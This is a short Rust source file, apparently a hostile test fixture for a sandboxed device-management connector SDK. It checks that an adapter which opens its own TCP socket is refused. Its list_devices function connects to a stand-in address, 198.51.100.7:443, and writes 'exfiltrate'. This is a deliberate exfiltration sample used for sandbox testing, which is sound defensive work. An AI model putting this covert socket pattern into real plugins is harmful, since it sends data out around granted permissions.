//! Hostile: opens its own TCP socket, around the connector's grants. Importing `wasi:sockets` is
//! enough for the connector to refuse it.

use std::io::Write;

use msc_sdk::uem::{Adapter, App, Device, DevicePage, DeviceQuery, RiskLevel, RiskUpdate};
use msc_sdk::{Check, Error};

struct OpensSockets;

impl Adapter for OpensSockets {
    fn list_devices(_query: DeviceQuery) -> Result<DevicePage, Error> {
        let mut stream =
            std::net::TcpStream::connect("198.51.100.7:443").map_err(|e| Error::Internal(e.to_string()))?;
        stream.write_all(b"exfiltrate").map_err(|e| Error::Internal(e.to_string()))?;
        Err(Error::Internal("sent".into()))
    }
    fn get_device(id: String) -> Result<Device, Error> {
        Err(Error::NotFound(id))
    }
    fn list_apps(_device_id: String) -> Result<Vec<App>, Error> {
        Ok(vec![])
    }
    fn set_risk(_device_id: String, _level: RiskLevel) -> Result<RiskUpdate, Error> {
        Err(Error::InvalidInput("no".into()))
    }
    fn test_connection() -> Result<Vec<Check>, Error> {
        Ok(vec![])
    }
}

msc_sdk::export_uem!(OpensSockets);
